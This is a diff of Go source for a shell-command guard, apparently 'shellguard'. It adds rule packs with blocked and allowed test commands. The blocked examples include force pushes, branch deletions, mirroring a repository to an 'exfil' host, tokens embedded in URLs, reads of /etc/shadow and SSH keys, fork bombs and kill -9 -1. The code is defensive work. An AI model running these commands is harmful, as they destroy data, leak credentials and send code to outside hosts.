-		return []string{"crontab -r", "crontab --remove", "sudo crontab -u www-data -r"}, []string{"crontab -l", "crontab -e", "crontab -u www-data -l"}
+		return []string{"git push --force origin main", "git push -f origin HEAD:master", "git push origin +main", "git push origin main -f", "git push origin HEAD:refs/heads/main --force", "git push --force upstream master", "git push origin +HEAD:trunk", "sudo -u git git push --force origin develop", "git -C ~/src/billing push --force origin main", "git push --force-with-lease origin main", "git push --force-with-lease=main origin main", "git push -f origin new:main", "git push origin main --force --no-verify", "git push --force-if-includes --force-with-lease origin master", "git-push -f origin main"}, []string{"git push origin main", "git push -f origin feature/login", "git push -f origin main:feature", "git push --dry-run --force origin main", "git push origin +feature", "echo git push -f origin main", "git push --force origin maintenance", "git push -n -f origin main", "git push -u origin main"}
 	case 113:
+		return []string{"git push origin --delete main", "git push -d origin master", "git push origin :main", "git push origin :refs/heads/trunk", "git push --delete upstream develop"}, []string{"git push origin --delete feature/old", "git push origin :feature", "git push origin main", "git push -n --delete origin main"}
+	case 114:
+		return []string{"git push origin :release/2024", "git push origin --delete release/1.x hotfix/2.3", "git push -d origin production", "git push origin --delete $(git branch -r | grep -v main | sed 's/origin\\\\///')", "git branch -r --merged | sed 's/origin\\///' | xargs git push origin --delete", "git push origin :refs/heads/stable"}, []string{"git push origin --delete feature/old-experiment", "git push -d origin v1.2.3", "git push origin release/2024", "git push -n origin --delete release/1.x"}
+	case 115:
+		return []string{"git push --all --force origin", "git push -f --all", "git push --branches --force-with-lease origin", "git push origin '+refs/heads/*:refs/heads/*' "}, []string{"git push --all origin", "git push --tags --force", "git push -f origin feature", "git push origin refs/heads/*:refs/heads/*"}
+	case 116:
+		return []string{"git push -f", "git push --force", "git push --force origin", "git push -f origin HEAD", "git push origin +HEAD", "git push -f origin \"$(git branch --show-current)\"", "git push -f origin $BRANCH", "git reset --hard $(git rev-list --max-parents=0 HEAD) && git push -f"}, []string{"git push", "git push origin HEAD", "git push -f origin feature/x", "git push -f origin main", "git push -n -f", "git push --all --force origin", "git push --force-with-lease", "git push --force-with-lease origin HEAD", "git push -f --force-with-lease"}
+	case 117:
+		return []string{"git push --prune origin", "git push --prune origin 'refs/heads/*:refs/heads/*' ", "git push --all --prune origin"}, []string{"git push origin main", "git fetch --prune", "git remote prune origin", "git push --prune --dry-run origin"}
+	case 118:
+		return []string{"git remote add backup https://git.example-paste.net/x/y.git && git push backup --all", "git remote set-url origin https://203.0.113.44/r.git && git push --mirror", "git remote add exfil git@203.0.113.9:loot/repo.git; git push exfil --mirror", "git push --mirror https://203.0.113.44/mirror.git", "git push --all git@git.example.org:backup/app.git", "git push https://oauth2:glpat-Zx8Pq2Lm9Rt4Vw6Yb1Nc@gitlab.example.com/acme/api.git --all", "git remote add -t main m https://code.example.io/u/x.git && git push m --tags"}, []string{"git remote add origin git@github.com:acme/new-service.git && git push -u origin main", "git push --all origin", "git push --tags", "git remote add upstream https://github.com/golang/go.git", "git push https://github.com/acme/api.git main", "git remote add backup https://x.example/y.git && git push origin --all"}
+	case 119:
+		return []string{"git push https://oauth2:glpat-Zx8Pq2Lm9Rt4Vw6Yb1Nc@gitlab.example.com/acme/api.git main", "git clone https://x-access-token:ghs_abc123@github.com/acme/api.git", "git remote add origin https://alice:s3cret@git.example.com/app.git", "git remote set-url origin https://ghp_AbCdEf123456@github.com/acme/api.git"}, []string{"git clone https://github.com/acme/api.git", "git remote add origin git@github.com:acme/api.git", "git push origin main", "git clone ssh://git@git.example.com/app.git"}
+	case 120:
+		return []string{"cat /etc/shadow", "cat ~/.ssh/id_rsa", "cat < ~/.ssh/id_rsa", "cat</etc/shadow", "cat 0< \"$HOME/.ssh/id_ed25519\"", "echo < /etc/shadow", "< /etc/shadow grep root", "{ cat; } < /etc/gshadow", "base64 ~/.aws/credentials"}, []string{"cat < ~/notes.txt", "cat <<< /etc/shadow", "cat <<'EOF' > /tmp/x\n/etc/shadow\nEOF", "echo /etc/shadow", "grep root < /etc/passwd", "ls -l /etc/shadow", "cat /etc/passwd", "ssh-keygen -y -f key > key.pub"}
+	case 121:
+		return []string{":(){ :|:& };:", ":(){:|:&};:", "bomb() { bomb | bomb & }; bomb"}, []string{"f() { echo hi; }; f", "git commit -m 'fix: avoid :(){ :|:& };:' ", "f() { f; }"}
+	case 122:
+		return []string{"kill -9 -1", "kill -KILL -1", "sudo kill -TERM -1"}, []string{"kill -9 1234", "kill -l", "kill -1 1234"}
+	case 123:
+		return []string{"crontab -r", "crontab --remove", "sudo crontab -u www-data -r"}, []string{"crontab -l", "crontab -e", "crontab -u www-data -l"}
+	case 124:
 		return []string{"cat /dev/port", "dd bs=1 count=16 < /dev/mem", "sudo xxd /dev/kmem | head"}, []string{"echo < /dev/null", "ls -l /dev/mem", "cat /dev/urandom | head -c 16"}
 	}
 	return nil, nil
 }
 
 // builtinDefault is how many rules of builtinRules are on by default.
-const builtinDefault = 114
+const builtinDefault = 125
 
 // builtinPacks are the packs of builtinRules, in order.
 var builtinPacks = [...]packInfo{
@@ -368,15 +401,16 @@ var builtinPacks = [...]packInfo{
 	{name: "core.shell", description: "What shellguard cannot verify: unparseable or oversized lines, computed programs and shell input, obfuscated words, decoded code, interpreter code that shells out or deletes.", on: true, from: 46, to: 57},
 	{name: "cloud", description: "Cloud providers and platforms: deleting storage, databases, instances, projects, identities, keys, DNS zones and apps; audit trails off.", on: true, from: 57, to: 80},
 	{name: "disks", description: "Writing onto disk devices, formatting, wiping signatures and partition tables.", on: true, from: 80, to: 89},
-	{name: "persistence", description: "Writing the files that decide who can log in or become root (passwd, shadow, sudoers, authorized_keys).", on: true, from: 89, to: 92},
-	{name: "remote", description: "Remote repositories: deleting a repository, its default branch, refs, releases or protections; force pushes to the default branch; code pushed elsewhere.", on: true, from: 92, to: 109},
-	{name: "secrets", description: "Reading files that hold password hashes, private keys and credentials.", on: true, from: 109, to: 110},
-	{name: "system", description: "The running system: fork bombs, killing every process, deleting every scheduled job, raw memory access.", on: true, from: 110, to: 114},
+	{name: "git.history", description: "A repository's history: .git deleted, history rewritten or pruned, refs deleted, every tracked file removed, branches deleted in bulk.", on: true, from: 89, to: 100},
+	{name: "persistence", description: "Writing the files that decide who can log in or become root (passwd, shadow, sudoers, authorized_keys).", on: true, from: 100, to: 103},
+	{name: "remote", description: "Remote repositories: deleting a repository, its default branch, refs, releases or protections; force pushes to the default branch; code pushed elsewhere.", on: true, from: 103, to: 120},
+	{name: "secrets", description: "Reading files that hold password hashes, private keys and credentials.", on: true, from: 120, to: 121},
+	{name: "system", description: "The running system: fork bombs, killing every process, deleting every scheduled job, raw memory access.", on: true, from: 121, to: 125},
 }
 
 // builtinIndex holds the default rules of each program name, for
 // builtinByProgram.
-var builtinIndex = [...]int{42, 43, 57, 58, 59, 61, 63, 64, 66, 67, 68, 69, 70, 71, 72, 73, 78, 61, 64, 66, 67, 68, 69, 70, 72, 78, 92, 57, 58, 57, 58, 48, 48, 43, 85, 64, 46, 47, 48, 48, 48, 88, 13, 2, 4, 13, 13, 84, 91, 112, 43, 39, 41, 42, 77, 93, 94, 43, 80, 84, 46, 47, 64, 66, 70, 78, 43, 88, 42, 10, 11, 64, 65, 75, 76, 43, 92, 62, 66, 76, 62, 66, 76, 57, 58, 59, 61, 64, 66, 67, 68, 69, 70, 78, 88, 92, 93, 94, 95, 96, 97, 98, 99, 100, 18, 19, 20, 21, 22, 23, 24, 25, 26, 27, 28, 29, 30, 31, 32, 33, 34, 35, 36, 37, 101, 102, 103, 104, 105, 106, 107, 108, 92, 93, 94, 95, 96, 97, 99, 57, 58, 59, 92, 48, 48, 62, 64, 75, 76, 42, 77, 93, 42, 77, 93, 92, 84, 91, 46, 47, 111, 43, 91, 57, 58, 81, 81, 81, 81, 43, 81, 12, 84, 91, 45, 45, 45, 45, 45, 75, 76, 81, 46, 47, 48, 46, 47, 48, 48, 86, 88, 43, 48, 43, 43, 84, 43, 48, 43, 48, 61, 75, 76, 43, 16, 60, 48, 0, 1, 3, 5, 6, 7, 8, 9, 3, 15, 84, 43, 46, 47, 48, 57, 58, 13, 87, 88, 86, 43, 14, 82, 45, 57, 61, 76, 43, 92, 96, 84, 90, 48, 17, 17, 18, 17, 3, 48, 48, 79, 75, 76, 38, 40, 42, 77, 85, 74, 75, 76, 77, 93, 77, 93, 48, 48, 48, 43, 48, 43}
+var builtinIndex = [...]int{42, 43, 57, 58, 59, 61, 63, 64, 66, 67, 68, 69, 70, 71, 72, 73, 78, 61, 64, 66, 67, 68, 69, 70, 72, 78, 103, 57, 58, 57, 58, 48, 48, 43, 94, 85, 64, 46, 47, 48, 48, 48, 88, 13, 2, 4, 13, 13, 84, 102, 123, 43, 39, 41, 42, 77, 104, 105, 43, 80, 84, 46, 47, 64, 66, 70, 78, 43, 88, 42, 10, 11, 89, 64, 65, 75, 76, 43, 103, 62, 66, 76, 62, 66, 76, 57, 58, 59, 61, 64, 66, 67, 68, 69, 70, 78, 88, 103, 104, 105, 106, 107, 108, 109, 110, 111, 18, 19, 20, 21, 22, 23, 24, 25, 26, 27, 28, 29, 30, 31, 32, 33, 34, 35, 36, 37, 90, 91, 92, 93, 94, 95, 96, 97, 98, 99, 112, 113, 114, 115, 116, 117, 118, 119, 103, 104, 105, 106, 107, 108, 110, 57, 58, 59, 103, 48, 48, 62, 64, 75, 76, 42, 77, 104, 42, 77, 104, 103, 84, 102, 94, 46, 47, 122, 43, 102, 57, 58, 81, 81, 81, 81, 43, 81, 12, 84, 102, 45, 45, 45, 45, 45, 75, 76, 81, 46, 47, 48, 46, 47, 48, 48, 86, 88, 43, 48, 43, 43, 84, 43, 48, 43, 48, 61, 75, 76, 43, 16, 60, 48, 0, 1, 3, 5, 6, 7, 8, 9, 89, 3, 15, 84, 43, 46, 47, 48, 57, 58, 13, 87, 88, 86, 43, 14, 82, 45, 57, 61, 76, 43, 103, 107, 84, 101, 48, 17, 17, 18, 17, 3, 48, 48, 79, 75, 76, 38, 40, 42, 77, 85, 74, 75, 76, 77, 104, 77, 104, 48, 48, 48, 43, 48, 43}
 
 // builtinByProgram returns the indexes of the default rules that name the
 // program name.
@@ -400,232 +434,236 @@ func builtinByProgram(name string) []int {
 		return builtinIndex[32:33:33]
 	case "bash":
 		return builtinIndex[33:34:34]
-	case "blkdiscard":
+	case "bfg":
 		return builtinIndex[34:35:35]
-	case "bq":
+	case "blkdiscard":
 		return builtinIndex[35:36:36]
+	case "bq":
+		return builtinIndex[36:37:37]
 	case "bun":
-		return builtinIndex[36:38:38]
+		return builtinIndex[37:39:39]
 	case "bunzip2":
-		return builtinIndex[38:39:39]
-	case "bzcat":
 		return builtinIndex[39:40:40]
-	case "bzip2":
+	case "bzcat":
 		return builtinIndex[40:41:41]
-	case "cfdisk":
+	case "bzip2":
 		return builtinIndex[41:42:42]
-	case "chgrp":
+	case "cfdisk":
 		return builtinIndex[42:43:43]
+	case "chgrp":
+		return builtinIndex[43:44:44]
 	case "chmod":
-		return builtinIndex[43:46:46]
+		return builtinIndex[44:47:47]
 	case "chown":
-		return builtinIndex[46:47:47]
+		return builtinIndex[47:48:48]
 	case "cp":
-		return builtinIndex[47:49:49]
+		return builtinIndex[48:50:50]
 	case "crontab":
-		return builtinIndex[49:50:50]
-	case "csh":
 		return builtinIndex[50:51:51]
+	case "csh":
+		return builtinIndex[51:52:52]
 	case "curl":
-		return builtinIndex[51:57:57]
+		return builtinIndex[52:58:58]
 	case "dash":
-		return builtinIndex[57:58:58]
-	case "dd":
 		return builtinIndex[58:59:59]
-	case "ddrescue":
+	case "dd":
 		return builtinIndex[59:60:60]
+	case "ddrescue":
+		return builtinIndex[60:61:61]
 	case "deno":
-		return builtinIndex[60:62:62]
+		return builtinIndex[61:63:63]
 	case "doctl":
-		return builtinIndex[62:66:66]
+		return builtinIndex[63:67:67]
 	case "exec":
-		return builtinIndex[66:67:67]
-	case "fdisk":
 		return builtinIndex[67:68:68]
-	case "fetch":
+	case "fdisk":
 		return builtinIndex[68:69:69]
+	case "fetch":
+		return builtinIndex[69:70:70]
 	case "find":
-		return builtinIndex[69:71:71]
+		return builtinIndex[70:73:73]
 	case "firebase":
-		return builtinIndex[71:75:75]
+		return builtinIndex[73:77:77]
 	case "fish":
-		return builtinIndex[75:76:76]
+		return builtinIndex[77:78:78]
 	case "fj":
-		return builtinIndex[76:77:77]
+		return builtinIndex[78:79:79]
 	case "fly":
-		return builtinIndex[77:80:80]
+		return builtinIndex[79:82:82]
 	case "flyctl":
-		return builtinIndex[80:83:83]
+		return builtinIndex[82:85:85]
 	case "gcloud":
-		return builtinIndex[83:94:94]
+		return builtinIndex[85:96:96]
 	case "gdisk":
-		return builtinIndex[94:95:95]
+		return builtinIndex[96:97:97]
 	case "gh":
-		return builtinIndex[95:104:104]
+		return builtinIndex[97:106:106]
 	case "gio":
-		return builtinIndex[104:105:105]
+		return builtinIndex[106:107:107]
 	case "git":
-		return builtinIndex[105:132:132]
+		return builtinIndex[107:144:144]
 	case "glab":
-		return builtinIndex[132:139:139]
+		return builtinIndex[144:151:151]
 	case "gsutil":
-		return builtinIndex[139:142:142]
+		return builtinIndex[151:154:154]
 	case "gt":
-		return builtinIndex[142:143:143]
+		return builtinIndex[154:155:155]
 	case "gunzip":
-		return builtinIndex[143:144:144]
-	case "gzip":
-		return builtinIndex[144:145:145]
-	case "heroku":
-		return builtinIndex[145:149:149]
-	case "http":
-		return builtinIndex[149:152:152]
-	case "https":
-		return builtinIndex[152:155:155]
-	case "hub":
 		return builtinIndex[155:156:156]
-	case "install":
-		return builtinIndex[156:158:158]
-	case "jruby":
-		return builtinIndex[158:160:160]
-	case "kill":
-		return builtinIndex[160:161:161]
-	case "ksh":
-		return builtinIndex[161:162:162]
-	case "ln":
-		return builtinIndex[162:163:163]
-	case "mc":
-		return builtinIndex[163:165:165]
-	case "mkdosfs":
-		return builtinIndex[165:166:166]
-	case "mke2fs":
-		return builtinIndex[166:167:167]
-	case "mkfs":
+	case "gzip":
+		return builtinIndex[156:157:157]
+	case "heroku":
+		return builtinIndex[157:161:161]
+	case "http":
+		return builtinIndex[161:164:164]
+	case "https":
+		return builtinIndex[164:167:167]
+	case "hub":
 		return builtinIndex[167:168:168]
-	case "mkntfs":
-		return builtinIndex[168:169:169]
-	case "mksh":
-		return builtinIndex[169:170:170]
-	case "mkswap":
+	case "install":
+		return builtinIndex[168:170:170]
+	case "java":
 		return builtinIndex[170:171:171]
-	case "mv":
-		return builtinIndex[171:174:174]
-	case "nc":
+	case "jruby":
+		return builtinIndex[171:173:173]
+	case "kill":
+		return builtinIndex[173:174:174]
+	case "ksh":
 		return builtinIndex[174:175:175]
-	case "nc.openbsd":
+	case "ln":
 		return builtinIndex[175:176:176]
-	case "nc.traditional":
-		return builtinIndex[176:177:177]
-	case "ncat":
-		return builtinIndex[177:178:178]
-	case "netcat":
+	case "mc":
+		return builtinIndex[176:178:178]
+	case "mkdosfs":
 		return builtinIndex[178:179:179]
-	case "netlify":
-		return builtinIndex[179:181:181]
-	case "newfs":
+	case "mke2fs":
+		return builtinIndex[179:180:180]
+	case "mkfs":
+		return builtinIndex[180:181:181]
+	case "mkntfs":
 		return builtinIndex[181:182:182]
-	case "node":
-		return builtinIndex[182:185:185]
-	case "nodejs":
-		return builtinIndex[185:187:187]
-	case "od":
+	case "mksh":
+		return builtinIndex[182:183:183]
+	case "mkswap":
+		return builtinIndex[183:184:184]
+	case "mv":
+		return builtinIndex[184:187:187]
+	case "nc":
 		return builtinIndex[187:188:188]
-	case "openssl":
+	case "nc.openbsd":
 		return builtinIndex[188:189:189]
-	case "parted":
-		return builtinIndex[189:191:191]
-	case "perl":
-		return builtinIndex[191:193:193]
-	case "php":
-		return builtinIndex[193:194:194]
-	case "posh":
+	case "nc.traditional":
+		return builtinIndex[189:190:190]
+	case "ncat":
+		return builtinIndex[190:191:191]
+	case "netcat":
+		return builtinIndex[191:192:192]
+	case "netlify":
+		return builtinIndex[192:194:194]
+	case "newfs":
 		return builtinIndex[194:195:195]
-	case "pv":
-		return builtinIndex[195:196:196]
-	case "python":
-		return builtinIndex[196:198:198]
-	case "python3":
+	case "node":
+		return builtinIndex[195:198:198]
+	case "nodejs":
 		return builtinIndex[198:200:200]
-	case "railway":
-		return builtinIndex[200:203:203]
-	case "rbash":
-		return builtinIndex[203:204:204]
-	case "rclone":
+	case "od":
+		return builtinIndex[200:201:201]
+	case "openssl":
+		return builtinIndex[201:202:202]
+	case "parted":
+		return builtinIndex[202:204:204]
+	case "perl":
 		return builtinIndex[204:206:206]
-	case "rev":
+	case "php":
 		return builtinIndex[206:207:207]
+	case "posh":
+		return builtinIndex[207:208:208]
+	case "pv":
+		return builtinIndex[208:209:209]
+	case "python":
+		return builtinIndex[209:211:211]
+	case "python3":
+		return builtinIndex[211:213:213]
+	case "railway":
+		return builtinIndex[213:216:216]
+	case "rbash":
+		return builtinIndex[216:217:217]
+	case "rclone":
+		return builtinIndex[217:219:219]
+	case "rev":
+		return builtinIndex[219:220:220]
 	case "rm":
-		return builtinIndex[207:215:215]
+		return builtinIndex[220:229:229]
 	case "rmdir":
-		return builtinIndex[215:216:216]
+		return builtinIndex[229:230:230]
 	case "rsync":
-		return builtinIndex[216:218:218]
+		return builtinIndex[230:232:232]
 	case "ruby":
-		return builtinIndex[218:222:222]
+		return builtinIndex[232:236:236]
 	case "s3cmd":
-		return builtinIndex[222:224:224]
-	case "setfacl":
-		return builtinIndex[224:225:225]
-	case "sfdisk":
-		return builtinIndex[225:227:227]
-	case "sgdisk":
-		return builtinIndex[227:228:228]
-	case "sh":
-		return builtinIndex[228:229:229]
-	case "shred":
-		return builtinIndex[229:231:231]
-	case "socat":
-		return builtinIndex[231:232:232]
-	case "supabase":
-		return builtinIndex[232:235:235]
-	case "tcsh":
-		return builtinIndex[235:236:236]
-	case "tea":
 		return builtinIndex[236:238:238]
-	case "tee":
-		return builtinIndex[238:240:240]
-	case "tr":
-		return builtinIndex[240:241:241]
-	case "trash":
+	case "setfacl":
+		return builtinIndex[238:239:239]
+	case "sfdisk":
+		return builtinIndex[239:241:241]
+	case "sgdisk":
 		return builtinIndex[241:242:242]
-	case "trash-cli":
+	case "sh":
 		return builtinIndex[242:243:243]
-	case "trash-empty":
-		return builtinIndex[243:244:244]
-	case "trash-put":
-		return builtinIndex[244:245:245]
-	case "unlink":
+	case "shred":
+		return builtinIndex[243:245:245]
+	case "socat":
 		return builtinIndex[245:246:246]
-	case "unxz":
-		return builtinIndex[246:247:247]
-	case "uudecode":
-		return builtinIndex[247:248:248]
-	case "vault":
-		return builtinIndex[248:249:249]
-	case "vercel":
-		return builtinIndex[249:251:251]
-	case "wget":
-		return builtinIndex[251:255:255]
-	case "wipefs":
+	case "supabase":
+		return builtinIndex[246:249:249]
+	case "tcsh":
+		return builtinIndex[249:250:250]
+	case "tea":
+		return builtinIndex[250:252:252]
+	case "tee":
+		return builtinIndex[252:254:254]
+	case "tr":
+		return builtinIndex[254:255:255]
+	case "trash":
 		return builtinIndex[255:256:256]
+	case "trash-cli":
+		return builtinIndex[256:257:257]
+	case "trash-empty":
+		return builtinIndex[257:258:258]
+	case "trash-put":
+		return builtinIndex[258:259:259]
+	case "unlink":
+		return builtinIndex[259:260:260]
+	case "unxz":
+		return builtinIndex[260:261:261]
+	case "uudecode":
+		return builtinIndex[261:262:262]
+	case "vault":
+		return builtinIndex[262:263:263]
+	case "vercel":
+		return builtinIndex[263:265:265]
+	case "wget":
+		return builtinIndex[265:269:269]
+	case "wipefs":
+		return builtinIndex[269:270:270]
 	case "wrangler":
-		return builtinIndex[256:259:259]
+		return builtinIndex[270:273:273]
 	case "xh":
-		return builtinIndex[259:261:261]
+		return builtinIndex[273:275:275]
 	case "xhs":
-		return builtinIndex[261:263:263]
+		return builtinIndex[275:277:277]
 	case "xxd":
-		return builtinIndex[263:264:264]
+		return builtinIndex[277:278:278]
 	case "xz":
-		return builtinIndex[264:265:265]
+		return builtinIndex[278:279:279]
 	case "xzcat":
-		return builtinIndex[265:266:266]
+		return builtinIndex[279:280:280]
 	case "yash":
-		return builtinIndex[266:267:267]
+		return builtinIndex[280:281:281]
 	case "zcat":
-		return builtinIndex[267:268:268]
+		return builtinIndex[281:282:282]
 	case "zsh":
-		return builtinIndex[268:269:269]
+		return builtinIndex[282:283:283]
 	}
 	return nil
 }
@@ -634,7 +672,7 @@ func builtinByProgram(name string) []int {
 // other lists of the default registry (see registry).
 var (
 	builtinGlobProgs  = [...]int{46, 47, 81}
-	builtinAnyProgram = [...]int{44, 49, 50, 51, 52, 53, 54, 55, 56, 83, 89, 109, 110, 113}
+	builtinAnyProgram = [...]int{44, 49, 50, 51, 52, 53, 54, 55, 56, 83, 100, 120, 121, 124}
 	builtinLineLevel  = [...]int{55, 56}
 )
 
@@ -730,6 +768,12 @@ func vetted(expr string) bool {
 		return true
 	case "(.* )?of=/dev/(sd|hd|vd|xvd|nvme|mmcblk|disk|rdisk|dm-|md|mapper/|loop|sr|fd)[^ ]*( .*)?":
 		return true
+	case "(.*/)?\\.git/?|(.*/)?\\.git/(objects|refs|logs|packed-refs|HEAD)(/.*)?|\\$\\(git rev-parse --(git-dir|absolute-git-dir|git-common-dir)\\)|`git rev-parse --(git-dir|absolute-git-dir|git-common-dir)`":
+		return true
+	case "(.*/)?bfg[^/]*\\.jar":
+		return true
+	case "(?i)(now|all|@?0|[0-9]+[. ]?(seconds?|minutes?)([. ]ago)?)":
+		return true
 	case "(?i)(visibility=public|private=false)":
 		return true
 	case "(?i)delete":
@@ -737,6 +781,8 @@ func vetted(expr string) bool {
 	case "(?i)public":
 		return true
 	case "(?i)true":
+		return true
+	case "(?is)(.*\\n)?\\s*delete\\s.*":
 		return true
 	case "(?is).*\"action\"\\s*:\\s*\"delete\".*":
 		return true
@@ -817,6 +863,8 @@ func vetted(expr string) bool {
 	case "\\+?([^:]*:)?(refs/heads/)?(main|master|trunk|develop)":
 		return true
 	case "\\.|\\*|:/":
+		return true
+	case "\\.|\\*|:/|\\./\\*|:\\(top\\)|:/\\*":
 		return true
 	case "https?://[^/@:]*:[^/@]+@.*|https?://(gh[pousr]_|github_pat_|glpat-)[^/@]*@.*":
 		return true
